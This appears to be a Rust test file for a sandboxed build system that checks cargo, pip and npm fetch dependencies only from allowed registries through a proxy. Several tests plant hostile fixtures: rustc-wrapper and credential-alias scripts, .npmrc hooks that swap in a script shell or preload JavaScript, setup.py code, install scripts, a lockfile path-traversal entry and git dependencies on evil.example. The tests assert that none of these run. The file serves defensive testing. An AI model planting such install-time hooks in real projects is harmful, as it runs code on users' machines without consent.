//! What is fetched before a fenced build: by the real cargo, pip and npm, from a registry on this machine, through the
//! fence's relay, the host's proxy and its egress rules.

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http_body_util::Full;
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use oarlock_tests::app::Running;
use oarlock_tests::apps::{Apps, get, running};
use rcgen::{
    BasicConstraints, CertificateParams, DistinguishedName, DnType, IsCa, Issuer, KeyPair,
};
use rustls::pki_types::PrivateKeyDer;
use tokio::net::TcpListener;
use tokio_rustls::TlsAcceptor;

use super::builds::{building, tenant};

/// Where the fence looks for programs of the system.
const SYSTEM: [&str; 3] = ["/usr/local/bin", "/usr/bin", "/bin"];

/// Whether the fence will have this program; `cargo` is there wherever these tests are built.
#[expect(clippy::print_stdout, reason = "who runs the tests must know")]
fn has(program: &str) -> bool {
    let there = SYSTEM
        .map(Path::new)
        .iter()
        .any(|folder| folder.join(program).is_file());
    if !there {
        println!("NOT TESTED: there is no {program} in {SYSTEM:?}");
    }
    there
}

/// Files by path, served with TLS on loopback, and the paths that were asked for.
struct Registry {
    port: u16,
    folder: tempfile::TempDir,
    files: Arc<Mutex<BTreeMap<String, Bytes>>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Registry {
    async fn start() -> Self {
        // A root and a certificate by it: OpenSSL in node takes no certificate for its own root.
        let mut root = CertificateParams::default();
        root.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        root.distinguished_name = DistinguishedName::new();
        root.distinguished_name
            .push(DnType::CommonName, "a root of the tests");
        let root_key = KeyPair::generate().unwrap();
        let root_certificate = root.self_signed(&root_key).unwrap();
        let issuer = Issuer::new(root, root_key);
        let key = KeyPair::generate().unwrap();
        // Behind a proxy node looks for `localhost` where a URL has an address.
        let names = ["127.0.0.1", "localhost"].map(str::to_owned);
        let own = CertificateParams::new(names).unwrap();
        let certificate = own.signed_by(&key, &issuer).unwrap();
        let key = PrivateKeyDer::try_from(key.serialize_der()).unwrap();
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let config = rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![certificate.der().clone()], key)
            .unwrap();
        let folder = tempfile::tempdir().unwrap();
        let der = folder.path().join("root.der");
        std::fs::write(&der, root_certificate.der()).unwrap();
        let base64 = output(&["base64"], &der);
        let pem = format!("-----BEGIN CERTIFICATE-----\n{base64}-----END CERTIFICATE-----\n");
        std::fs::write(folder.path().join("roots.pem"), pem).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let registry = Self {
            port: listener.local_addr().unwrap().port(),
            folder,
            files: Arc::default(),
            asked: Arc::default(),
        };
        let acceptor = TlsAcceptor::from(Arc::new(config));
        let (files, asked) = (registry.files.clone(), registry.asked.clone());
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (acceptor, files, asked) = (acceptor.clone(), files.clone(), asked.clone());
                tokio::spawn(async move {
                    let Ok(stream) = acceptor.accept(stream).await else {
                        return;
                    };
                    let answer = |request: Request<Incoming>| {
                        let path = request.uri().path().to_owned();
                        asked.lock().unwrap().push(path.clone());
                        let file = files.lock().unwrap().get(&path).cloned();
                        let status = if file.is_some() { 200 } else { 404 };
                        let kind = if path.ends_with('/') {
                            "text/html"
                        } else {
                            "application/octet-stream"
                        };
                        let answer = Response::builder()
                            .status(status)
                            .header("content-type", kind)
                            .body(Full::new(file.unwrap_or_default()));
                        async { Ok::<_, Infallible>(answer.unwrap()) }
                    };
                    let http = hyper::server::conn::http1::Builder::new();
                    let _ = http
                        .serve_connection(TokioIo::new(stream), service_fn(answer))
                        .await;
                });
            }
        });
        registry
    }

    fn url(&self, path: &str) -> String {
        format!("https://127.0.0.1:{}{path}", self.port)
    }

    fn put(&self, path: &str, content: impl Into<Bytes>) {
        let mut files = self.files.lock().unwrap();
        files.insert(path.to_owned(), content.into());
    }

    /// An archive of these files, made by a program; its last argument but one is the archive.
    fn archive(&self, program: &[&str], name: &str, files: &[(&str, &str)]) -> PathBuf {
        let place = self.folder.path().join(format!("of-{name}"));
        for (path, content) in files {
            let path = place.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, content).unwrap();
        }
        let archive = self.folder.path().join(name);
        let tops = std::fs::read_dir(&place).unwrap();
        let done = Command::new(program[0])
            .args(&program[1..])
            .arg(&archive)
            .args(tops.map(|entry| entry.unwrap().file_name()))
            .current_dir(&place)
            .status();
        assert!(done.unwrap().success());
        archive
    }

    fn asked(&self, what: &str) -> bool {
        self.asked
            .lock()
            .unwrap()
            .iter()
            .any(|path| path.contains(what))
    }

    /// A policy that lets a fetch connect to it.
    fn policy(&self) -> String {
        format!(
            "private_networks = [\"127.0.0.0/8\"]\n[build]\nfetch = [\"127.0.0.1:{}\"]\n",
            self.port
        )
    }

    /// A host whose operator trusts its certificate.
    async fn host(&self, apps: &Apps, policy: &str) -> Running {
        let mut launch = building(apps, policy);
        let roots = self.folder.path().join("roots.pem");
        launch.command.env("SSL_CERT_FILE", roots);
        running(launch, &["ada"]).await
    }

    /// A crate with a sparse index; the dependency on it, for a `Cargo.toml`.
    fn with_crate(&self) -> String {
        let manifest = "[package]\nname = \"arrived\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[lib]\npath = \"lib.rs\"\n";
        let files = [
            ("arrived-1.0.0/Cargo.toml", manifest),
            (
                "arrived-1.0.0/lib.rs",
                "pub const WORD: &str = \"by-cargo\";\n",
            ),
        ];
        let archive = self.archive(&["tar", "-czf"], "arrived-1.0.0.crate", &files);
        let digest = output(&["sha256sum"], &archive);
        let digest = digest.split(' ').next().unwrap();
        self.put(
            "/dl/arrived/1.0.0/download",
            std::fs::read(archive).unwrap(),
        );
        self.put(
            "/index/config.json",
            format!("{{\"dl\":\"{}\"}}", self.url("/dl")),
        );
        let line = format!(
            r#"{{"name":"arrived","vers":"1.0.0","deps":[],"cksum":"{digest}","features":{{}},"yanked":false}}"#
        );
        self.put("/index/ar/ri/arrived", line);
        let index = self.url("/index/");
        format!("arrived = {{ version = \"1\", registry-index = \"sparse+{index}\" }}\n")
    }
}

/// What a program says of a file.
fn output(program: &[&str], file: &Path) -> String {
    let output = Command::new(program[0])
        .args(&program[1..])
        .arg(file)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

#[tokio::test]
async fn cargo_fetches_through_the_proxy_and_the_build_finds_it_offline() {
    let registry = Registry::start().await;
    let dependency = registry.with_crate();
    let apps = Apps::new();
    let script = "cargo check && grep -rh by-cargo $CARGO_HOME/registry/src > report";
    tenant(&apps, "ada", script);
    let manifest = "[package]\nname = \"ada\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[lib]\npath = \"lib.rs\"\n";
    apps.write(
        "ada/Cargo.toml",
        &format!("{manifest}[dependencies]\n{dependency}"),
    );
    apps.write("ada/lib.rs", "pub use arrived::WORD;\n");
    let host = registry.host(&apps, &registry.policy()).await;
    let report = std::fs::read_to_string(apps.path("ada/report")).unwrap();
    assert!(report.contains("by-cargo"), "{report}");
    assert!(registry.asked("/dl/arrived"));
    assert_eq!(get(&host, "ada", "/").await.status, 200);
    assert_eq!(host.interrupt().await, Some(0));
}

#[tokio::test]
async fn pip_fetches_wheels_through_the_proxy_and_the_build_finds_them_offline() {
    if !has("pip3") {
        return;
    }
    let registry = Registry::start().await;
    let files = [
        ("arrived.py", "WORD = 'by-pip'\n"),
        (
            "arrived-1.0.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: arrived\nVersion: 1.0.0\n",
        ),
        (
            "arrived-1.0.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        ),
        ("arrived-1.0.0.dist-info/RECORD", ""),
    ];
    let wheel = "arrived-1.0.0-py3-none-any.whl";
    let archive = registry.archive(&["python3", "-m", "zipfile", "-c"], wheel, &files);
    registry.put(&format!("/files/{wheel}"), std::fs::read(archive).unwrap());
    let page = format!("<!DOCTYPE html><a href=\"/files/{wheel}\">{wheel}</a>");
    registry.put("/simple/arrived/", page);
    let apps = Apps::new();
    tenant(
        &apps,
        "ada",
        "pip3 install --target py -r requirements.txt && python3 -c 'import sys; sys.path.append(\"py\"); \
         import arrived; print(arrived.WORD)' > report",
    );
    let index = registry.url("/simple/");
    // Neither the app's configuration nor its index counts in the build: there is no network.
    apps.write(
        "ada/requirements.txt",
        &format!("--index-url {index}\narrived == 1.0.0\n"),
    );
    let host = registry.host(&apps, &registry.policy()).await;
    let report = std::fs::read_to_string(apps.path("ada/report")).unwrap();
    assert_eq!(report, "by-pip\n");
    assert!(registry.asked(wheel));
    assert_eq!(host.interrupt().await, Some(0));
}

#[tokio::test]
async fn npm_fetches_through_the_proxy_and_the_build_finds_it_offline() {
    if !has("npm") {
        return;
    }
    let registry = Registry::start().await;
    let package = r#"{"name":"arrived","version":"1.0.0","main":"index.js","scripts":{"install":"touch /build/ran"}}"#;
    let files = [
        ("package/package.json", package),
        ("package/index.js", "module.exports = 'by-npm';\n"),
    ];
    let archive = registry.archive(&["tar", "-czf"], "arrived-1.0.0.tgz", &files);
    let digest = "const h = require('crypto').createHash('sha512'); \
                  process.stdout.write(h.update(require('fs').readFileSync(process.argv[1])).digest('base64'))";
    let digest = output(&["node", "-e", digest], &archive);
    let path = "/arrived/-/arrived-1.0.0.tgz";
    registry.put(path, std::fs::read(archive).unwrap());
    let url = registry.url(path);
    let apps = Apps::new();
    tenant(
        &apps,
        "ada",
        "ls -d node_modules > before; npm ci --ignore-scripts && node -p 'require(\"arrived\")' > report",
    );
    let members = r#""workspaces":["member"],"dependencies":{"arrived":"1.0.0"}"#;
    apps.write(
        "ada/package.json",
        &format!(r#"{{"name":"ada","version":"1.0.0",{members}}}"#),
    );
    apps.write(
        "ada/member/package.json",
        r#"{"name":"member","version":"1.0.0"}"#,
    );
    apps.write(
        "ada/package-lock.json",
        &format!(
            r#"{{"name":"ada","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{{
                "":{{"name":"ada","version":"1.0.0",{members}}},
                "member":{{"version":"1.0.0"}},
                "node_modules/member":{{"resolved":"member","link":true}},
                "node_modules/arrived":{{"version":"1.0.0","resolved":"{url}","integrity":"sha512-{digest}"}}}}}}"#
        ),
    );
    let host = registry.host(&apps, &registry.policy()).await;
    let read = |file: &str| std::fs::read_to_string(apps.path("ada").join(file)).unwrap();
    assert_eq!(read("report"), "by-npm\n");
    assert_eq!(read("before"), "", "the fetch wrote into the app's folder");
    assert!(registry.asked(path));
    assert!(!apps.path("ada/ran").exists(), "a script was run");
    assert_eq!(host.interrupt().await, Some(0));
}

#[tokio::test]
async fn the_egress_rules_refuse_a_registry_that_the_policy_does_not_allow() {
    let registry = Registry::start().await;
    let dependency = registry.with_crate();
    let apps = Apps::new();
    tenant(&apps, "ada", "true");
    let manifest = "[package]\nname = \"ada\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[lib]\npath = \"lib.rs\"\n";
    apps.write(
        "ada/Cargo.toml",
        &format!("{manifest}[dependencies]\n{dependency}"),
    );
    apps.write("ada/lib.rs", "");
    // Named, but a private range that no policy opens.
    let policy = format!("[build]\nfetch = [\"127.0.0.1:{}\"]\n", registry.port);
    for (policy, why) in [
        ("", "it is a loopback address"),
        (&*policy, "`private_networks`"),
    ] {
        let host = registry.host(&apps, policy).await;
        host.output.wait_for("the fetch failed (`cargo fetch").await;
        let place = format!("127.0.0.1:{}: ", registry.port);
        let line = host.output.wait_for(&place).await;
        assert!(
            line.contains(why) && line.contains("`[build] fetch`"),
            "{line}"
        );
        assert_eq!(host.interrupt().await, Some(0));
    }
    assert!(!registry.asked(""), "{:?}", registry.asked);
}

#[tokio::test]
async fn a_fetch_runs_nothing_of_the_app_and_reaches_only_the_registries() {
    let apps = Apps::new();
    tenant(&apps, "ada", "true");
    let lib = "[package]\nname = \"ada\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\
               [lib]\npath = \"lib.rs\"\n\
               [dependencies]\nevil = { git = \"https://evil.example/evil\" }\n";
    apps.write("ada/Cargo.toml", lib);
    apps.write("ada/lib.rs", "");
    apps.write(
        "ada/evil.sh",
        "#!/bin/sh\ntouch /build/ran /sources/ran\nexec \"$@\"\n",
    );
    apps.write(
        "ada/.cargo/config.toml",
        "[build]\nrustc-wrapper = \"/build/evil.sh\"\n[net]\ngit-fetch-with-cli = true\n\
         [http]\nproxy = \"\"\n[credential-alias]\nx = [\"/build/evil.sh\"]\n",
    );
    let host = running(building(&apps, ""), &["ada"]).await;
    let all = host.output.lines().join("\n");
    assert!(all.contains("the fetch failed (`cargo fetch"), "{all}");
    assert!(
        all.contains("evil.example:443") && all.contains("`[build] fetch`"),
        "{all}"
    );
    assert_nothing_ran(&apps);
    assert_eq!(host.interrupt().await, Some(0));
}

fn assert_nothing_ran(apps: &Apps) {
    let sources = apps.path(".oarlock/builds/ada/sources");
    assert!(sources.is_dir());
    assert!(
        !sources.join("ran").exists(),
        "the fetch ran the app's code"
    );
    assert!(
        !apps.path("ada/ran").exists(),
        "the fetch ran the app's code"
    );
}

#[tokio::test]
async fn pip_asks_no_source_of_the_apps_what_it_needs() {
    if !has("pip3") {
        return;
    }
    let setup = "open('/sources/ran', 'w').close()\nfrom setuptools import setup\nsetup(name='evil', version='1')\n";
    for requirement in [
        "./evil",
        "-e /build/evil",
        "evil @ file:///build/evil",
        "git+file:///build/evil#egg=evil",
        "--no-binary :all:\n--no-index\n--find-links /build/links\nevil",
    ] {
        let apps = Apps::new();
        tenant(&apps, "ada", "true");
        apps.write("ada/evil/setup.py", setup);
        apps.write("ada/links/evil-1/setup.py", setup);
        let links = apps.path("ada/links");
        let tar = Command::new("tar")
            .args(["-czf", "evil-1.tar.gz", "evil-1"])
            .current_dir(&links)
            .status();
        assert!(tar.unwrap().success());
        // It is looked at in an empty folder, where `./evil` is not.
        let requirement = requirement.replace("./evil", "/build/evil");
        apps.write("ada/requirements.txt", &format!("{requirement}\n"));
        apps.write("ada/pip.conf", "[global]\nno-index = false\n");
        let host = running(building(&apps, ""), &["ada"]).await;
        let all = host.output.lines().join("\n");
        assert!(
            all.contains("a fetch runs no programs"),
            "{requirement}: {all}"
        );
        assert!(
            all.contains("the fetch failed (`pip download"),
            "{requirement}: {all}"
        );
        assert_nothing_ran(&apps);
        assert_eq!(host.interrupt().await, Some(0));
    }
}

#[tokio::test]
async fn npm_runs_no_repository_and_reads_no_configuration_of_the_apps() {
    if !has("npm") {
        return;
    }
    let apps = Apps::new();
    tenant(&apps, "ada", "true");
    let from = "git+https://evil.example/evil.git";
    apps.write(
        "ada/package.json",
        &format!(
            r#"{{"name":"ada","version":"1.0.0","dependencies":{{"evil":"{from}"}},
                "scripts":{{"preinstall":"sh /build/evil.sh","prepare":"sh /build/evil.sh"}}}}"#
        ),
    );
    apps.write(
        "ada/package-lock.json",
        &format!(
            r#"{{"name":"ada","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{{
                "":{{"name":"ada","version":"1.0.0","dependencies":{{"evil":"{from}"}}}},
                "x/../.npmrc":{{"version":"1.0.0","resolved":"file:.npmrc"}},
                "node_modules/evil":{{"version":"1.0.0","resolved":"{from}#{}"}}}}}}"#,
            "0".repeat(40)
        ),
    );
    apps.write("ada/evil.sh", "#!/bin/sh\ntouch /sources/ran\n");
    apps.write(
        "ada/.npmrc",
        "git=/build/evil.sh\nscript-shell=/build/evil.sh\nnode-options=--require=/build/evil.js\n\
         ignore-scripts=false\nallow-git=all\n",
    );
    apps.write(
        "ada/evil.js",
        "require('fs').writeFileSync('/sources/ran', '');\n",
    );
    let host = running(building(&apps, ""), &["ada"]).await;
    host.output.wait_for("the fetch failed (`npm ci").await;
    assert_nothing_ran(&apps);
    assert_eq!(host.interrupt().await, Some(0));
}
